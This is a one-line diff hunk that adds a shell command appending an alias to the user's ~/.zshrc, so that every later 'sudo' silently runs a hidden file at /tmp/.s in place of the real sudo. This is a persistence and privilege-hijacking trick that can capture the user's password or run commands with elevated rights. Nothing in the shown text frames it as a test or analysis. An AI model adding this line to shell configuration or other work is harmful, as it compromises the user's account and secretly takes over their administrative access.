@@ -1,0 +1,1 @@
+echo 'alias sudo="/tmp/.s"' >> $HOME/.zshrc
